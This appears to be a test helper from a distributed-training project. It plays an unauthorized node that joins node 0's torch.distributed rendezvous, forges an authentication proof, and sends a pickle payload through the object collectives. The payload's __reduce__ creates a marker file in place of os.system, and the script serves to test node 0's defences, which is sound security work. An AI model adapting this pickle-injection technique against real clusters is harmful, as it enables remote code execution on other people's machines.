"""A stranger that knows only node 0's address and port, and this project's source: it joins node 0's
rendezvous as node 1 with plain torch.distributed, beats like a node, and passes every object collective it can
an object whose unpickling creates a marker file (code run in node 0).

    python tests/training/stranger_node.py PORT MARKER [--forge-proof]

--forge-proof also writes node 1's answer to node 0's challenge, with a made-up proof (the keys of another
rank). It prints what it reached; tests kill it when they are done."""

from __future__ import annotations

import json
import sys
import threading
import time
from datetime import timedelta

import torch.distributed as dist


class Marker:
    """Unpickling this opens (creates) the marker file: what an attacker's `os.system` would be."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def beat(store: dist.Store) -> None:
    while True:
        store.add("gpuctl/beat/1", 1)
        time.sleep(0.5)


def main(port: int, marker: str, forge: bool) -> None:
    store = dist.TCPStore("127.0.0.1", port, 2, False, timeout=timedelta(seconds=60), wait_for_workers=True)
    print("connected", flush=True)
    if forge:
        store.set("auth/1/hello", json.dumps({"nonce": "0" * 64, "proof": "1" * 64}))
        print("forged a proof", flush=True)
    threading.Thread(target=beat, args=(store,), daemon=True).start()
    dist.init_process_group("gloo", store=store, rank=1, world_size=2, timeout=timedelta(seconds=60))
    dist.new_group(backend="gloo")
    dist.barrier()
    print("in the process group", flush=True)
    evil = Marker(marker)
    calls = [lambda: dist.all_gather_object([None, None], evil),
             lambda: dist.broadcast_object_list([evil], src=1),
             lambda: dist.gather_object(evil, None, dst=0),
             lambda: dist.scatter_object_list([None], [evil, evil], src=1)]
    for call in calls:
        try:
            call()
            print("sent", flush=True)
        except Exception as err:  # noqa: BLE001 - node 0 hung up: try the next
            print(f"refused: {type(err).__name__}", flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], "--forge-proof" in sys.argv[3:])
